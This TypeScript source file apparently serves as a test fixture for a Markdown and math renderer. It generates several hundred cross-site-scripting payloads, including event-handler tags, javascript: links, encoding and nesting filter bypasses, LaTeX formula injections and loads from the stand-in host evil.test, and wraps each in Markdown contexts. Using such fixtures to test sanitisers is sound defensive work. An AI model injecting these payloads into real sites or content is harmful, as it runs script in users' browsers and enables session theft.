/** Texts that would run a script wherever one link of the chain took them for markup. Each calls `__pwned`. */

const call = '__pwned()';

const tags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'iframe src=x',
  'input autofocus',
  'details open',
];
const moreTags = [
  'object data=x',
  'embed src=x',
  'marquee',
  'math',
  'form',
  'a href=x',
  'style',
  'template',
  'x tabindex=1',
];
const events = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onclick',
  'onmouseover',
  'onanimationstart',
];
const moreEvents = ['onpointerenter', 'onbegin', 'onscroll'];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java&#115;cript:',
  'javascript&colon;',
];
const moreSchemes = [
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'blob:',
  'file:///',
  '//evil.test/',
];
const linkForms = [
  '[a](X)',
  '[a](<X>)',
  '![a](X)',
  '<X>',
  '[a]: X\n\n[a]',
  '<a href="X">a</a>',
  '[![a](X)](X)',
];
const formulas = [
  '\\href{X}{a}',
  '\\url{X}',
  '\\includegraphics{X}',
  '\\htmlClass{X}{a}',
  '\\htmlStyle{background:url(X)}{a}',
];
const moreFormulas = [
  '\\htmlData{a=X}{a}',
  '\\htmlId{X}{a}',
  '\\text{<img src=x onerror=X>}',
  '\\color{red;background:url(X)}a',
];
const whole = [
  '<script>X</script>',
  '<scr<script>ipt>X</scr</script>ipt>',
  '"><script>X</script>',
  "'-X-'",
  '</textarea><script>X</script>',
  '<!--><script>X</script>-->',
  '<![CDATA[<script>X</script>]]>',
  '<svg><script>X</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=X>',
  '<noscript><p title="</noscript><img src=x onerror=X>">',
  '&lt;script&gt;X&lt;/script&gt;',
  '&#60;script&#62;X&#60;/script&#62;',
  '\\u003cscript\\u003eX\\u003c/script\\u003e',
  '<base href="https://evil.test/"><script src=x></script>',
  '<meta http-equiv=refresh content="0;url=javascript:X">',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<img src=https://evil.test/x.png>',
  '![a](https://evil.test/x.png)',
  '{{constructor.constructor("X")()}}',
  '#{X}',
  '`<img src=x onerror=X>',
  '{"__proto__":{"type":"html"}}',
];

/** Different payloads, more than 300. */
export const payloads: readonly string[] = [
  ...whole.map((text) => text.replaceAll('X', call)),
  ...[...tags, ...moreTags].flatMap((tag) =>
    [...events, ...moreEvents].map((event) => `<${tag} ${event}=${call}>`),
  ),
  ...[...schemes, ...moreSchemes].flatMap((scheme) =>
    linkForms.map((form) => form.replaceAll('X', `${scheme}${call}`)),
  ),
  ...[...formulas, ...moreFormulas].flatMap((form) =>
    ['javascript:', 'data:text/html,'].map((scheme) => `$${form.replaceAll('X', scheme + call)}$`),
  ),
];

/** Where a text can stand; `X` is where the payload goes. */
export const contexts: readonly string[] = [
  'X',
  '# X',
  '> X',
  '- X',
  '1. X',
  '**X**',
  '*X*',
  '~~X~~',
  '`X`',
  '```\nX\n```',
  '```X\na\n```',
  '    X',
  '| X |\n| --- |\n| X |',
  '[X](https://example.com)',
  '[a](https://example.com/X)',
  '[a](X "X")',
  '![X](image:X)',
  '![X](image:00000000-0000-4000-8000-000000000001)',
  '<X>',
  '$X$',
  '$$\nX\n$$',
  '\\(X\\)',
  '\\[\\text{X}\\]',
  '{{c1::X::X}}',
  '{{strong::X}}',
  '[r]: https://example.com/X "X"\n\n[r]',
  'a\\\nX',
  '***X',
  '<div>\n\nX\n\n</div>',
];

/** @returns every payload in every context, grouped by payload */
export function hostileMarkup(): string[] {
  return payloads.flatMap((payload) => contexts.map((context) => context.replaceAll('X', () => payload)));
}
